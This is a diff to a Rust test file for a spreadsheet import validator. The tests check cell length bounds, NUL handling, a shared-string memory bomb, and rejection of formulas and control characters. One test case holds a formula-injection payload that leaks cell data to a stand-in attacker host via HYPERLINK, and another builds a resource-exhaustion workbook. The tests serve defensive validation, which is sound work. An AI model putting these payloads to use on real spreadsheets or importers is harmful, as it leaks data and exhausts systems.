@@ -1,9 +1,10 @@
 //! The bounds of any cell: more than 500 characters, NUL (from CSV and from a
-//! workbook), and values echoed in reasons cut at 50 characters.
+//! workbook), a shared string too long for a cell referenced by many cells, and values
+//! echoed in reasons cut at 50 characters.
 
-use crate::imports::bounds::{echo, ImportLimits, ECHO_CHARS, MAX_CELL_CHARS};
+use crate::imports::bounds::{echo, ImportLimits, ECHO_CHARS, MAX_CELL_CHARS, NUL_REASON};
 use crate::imports::validate::{Validator, COLUMNS};
-use crate::imports::workbook::tests::with_part;
+use crate::imports::workbook::tests::{with_part, with_sheet_xml};
 use crate::imports::workbook::{read, read_rows, Cell, FileKind};
 
 use super::{import, reference, sample_xlsx, with_cell_in_row_1, HEAD};
@@ -95,7 +96,13 @@ fn nul_from_a_workbook_is_a_row_error_too() {
         xml.replace("<t>250000.123456</t>", "<t>250000_x0000_</t>")
     });
     let sheet = read(FileKind::Xlsx, &bytes).expect("readable");
-    assert_eq!(sheet.rows[1].cells[4], Cell::Text("250000\0".into()));
+    assert_eq!(
+        sheet.rows[1].cells[4],
+        Cell::OutOfBounds {
+            reason: NUL_REASON.into(),
+            shown: "250000\u{FFFD}".into()
+        }
+    );
     let reference = reference();
     let mut validator = Validator::new(&reference);
     let quotes: Vec<u32> = sheet
@@ -170,4 +177,86 @@ fn a_long_date_time_value_of_a_workbook_is_echoed_short() {
     };
     assert_eq!(what, &format!("the date-time value '{}'", echo(&value)));
     assert!(what.chars().count() < 100);
+}
+
+/// The shared-string bomb: one long string referenced by every cell of a row was copied
+/// per reference (100 MiB x 32 references took 3.4 GB). Now each reference is judged by
+/// the string's length and holds only the reason.
+#[test]
+fn a_long_shared_string_referenced_by_many_cells_is_judged_not_copied() {
+    const REFERENCES: usize = 2_000;
+    let long = "L".repeat(1 << 20);
+    // The long string first in the table (the sample's own references shift by one,
+    // to other strings of the table), and row 2 referencing it from every column.
+    let bytes = with_part(&sample_xlsx(), "xl/sharedStrings.xml", |xml| {
+        let start = xml.find("<sst").expect("sst");
+        let open = start + xml[start..].find('>').expect("sst's end") + 1;
+        format!("{}<si><t>{long}</t></si>{}", &xml[..open], &xml[open..])
+    });
+    let cells: String = (0..REFERENCES)
+        .map(|c| {
+            format!(
+                "<c r=\"{}2\" t=\"s\"><v>0</v></c>",
+                crate::imports::bounds::column_letter(c as u64)
+            )
+        })
+        .collect();
+    let bytes = with_sheet_xml(&bytes, |xml| {
+        let start = xml.find("<row r=\"2\"").expect("row 2");
+        let end = start + xml[start..].find("</row>").expect("end of row 2");
+        format!("{}<row r=\"2\">{cells}{}", &xml[..start], &xml[end..])
+    });
+    let sheet = read(FileKind::Xlsx, &bytes).expect("readable");
+    let row = &sheet.rows[1];
+    assert_eq!(row.cells.len(), REFERENCES);
+    let reason = format!(
+        "the cell holds {} characters, more than the {MAX_CELL_CHARS} a cell may hold: '{}…'",
+        1 << 20,
+        "L".repeat(ECHO_CHARS)
+    );
+    for cell in &row.cells {
+        assert_eq!(
+            cell,
+            &Cell::OutOfBounds {
+                reason: reason.clone(),
+                shown: format!("{}…", "L".repeat(ECHO_CHARS))
+            }
+        );
+    }
+}
+
+#[test]
+fn control_characters_bidi_overrides_and_formulas_in_a_specification_are_row_errors() {
+    let cases = [
+        (
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+            "starts with '='",
+        ),
+        ("@SUM(1+1)", "starts with '@'"),
+        ("+1+1", "starts with '+'"),
+        ("B200\u{1B}[2J", "the control character U+001B"),
+        ("B200\u{7}", "the control character U+0007"),
+        ("B200\u{8}x", "the control character U+0008"),
+        ("B200\r\nx", "the control character U+000D"),
+        ("B\u{85}200", "the control character U+0085"),
+        (
+            "B200\u{202E}x",
+            "the bidirectional control character U+202E",
+        ),
+    ];
+    for (name, says) in cases {
+        let error = import(&one_row(2, name)).expect_err(name);
+        assert_eq!(error.errors.len(), 1, "{name:?}: {:?}", error.errors);
+        let problem = &error.errors[0];
+        assert_eq!((problem.row, problem.column.as_str()), (2, "specification"));
+        assert!(
+            problem.reason.starts_with("the specification ") && problem.reason.contains(says),
+            "{name:?}: {}",
+            problem.reason
+        );
+    }
+    // Names a spreadsheet shows as text stay accepted, exactly as written.
+    for name in ["-1", "H100 @ 80GB", "a=b", "B200 \u{4E2D}"] {
+        assert_eq!(import(&one_row(2, name)).expect(name), 1, "{name:?}");
+    }
 }
